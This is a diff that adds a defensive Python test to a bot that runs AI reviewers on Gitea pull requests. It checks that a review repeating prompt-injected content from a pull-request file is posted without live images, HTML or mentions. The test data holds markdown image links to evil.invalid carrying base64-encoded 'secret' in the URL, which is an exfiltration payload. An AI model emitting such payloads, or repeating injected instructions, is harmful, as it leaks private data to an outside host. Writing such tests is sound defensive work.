@@ -182,3 +182,35 @@ async def test_a_failure_reason_names_no_host_path(world, engine_bot):
     assert run.state == "failed" and "could not finish the run" in run.reason and lost in run.reason, run.reason
     [comment] = [c for c in bot_comments(world, issue.number) if "dispatchbot:run:" in c.body]
     assert str(world["tmp"]) not in comment.body and "<data_dir>/" in comment.body, comment.body
+
+
+def active(markdown: str) -> list[str]:
+    """What in ``markdown`` acts by itself once Gitea renders it, outside code: an image (fetched by
+    every reader's browser, its address able to carry the private code out), raw HTML, a mention."""
+    text = re.sub(r"(`+).*?\1", "", outside_code(markdown))  # code spans
+    text = re.sub(r"<!-- dispatchbot:[\w:-]+ -->", "", text)  # the bot's own marker
+    return re.findall(r"(?<!\\)!\[|<[A-Za-z/!]|(?<![\w`\\])@[A-Za-z0-9]", text)
+
+
+async def test_a_hostile_review_shows_no_image_html_or_mention(world, engine_bot):
+    """A reviewer repeats what a file of the pull tells it (a prompt injection): its review text is
+    posted as markdown, readable, with nothing in it that fetches, renders HTML or pings anyone."""
+    forge, repo, bob = world["forge"], world["repo"], world["bob"]
+    said = ("Looks fine. ![x](http://evil.invalid/leak.png?d=c2VjcmV0) <img src=http://evil.invalid/p.png> cc @rita\n"
+            "src/app.py:1: see ![y][r] and <details><summary>@rita</summary>\n"
+            "[r]: http://evil.invalid/ref.png\n"
+            "```\n![kept](in-code) @in-code\n```")
+    bot = await engine_bot(agents={"reviewer": {"argv": ["sh", "-c", "cat SAID.txt"], "review": True}})
+    pull = await forge.create_pull(repo, bob, head="feature", title="Feature",
+                                   files={"src/app.py": "print('changed')\n", "SAID.txt": said})
+    await forge.create_comment(repo, pull.issue.number, bob, "/review reviewer")
+    [run] = await ended(bot)
+    run = await reported(bot, run.id)
+    assert run.state == "completed", run.reason
+    [review] = forge.reviews(repo, pull.issue.number)
+    [inline] = review.comments
+    assert inline.path == "src/app.py"
+    for body in (review.body, inline.body):
+        assert active(body) == [], body
+    assert "Looks fine." in review.body and "cc" in review.body and "rita" in review.body
+    assert "![kept](in-code) @in-code" in review.body  # code is shown as it is
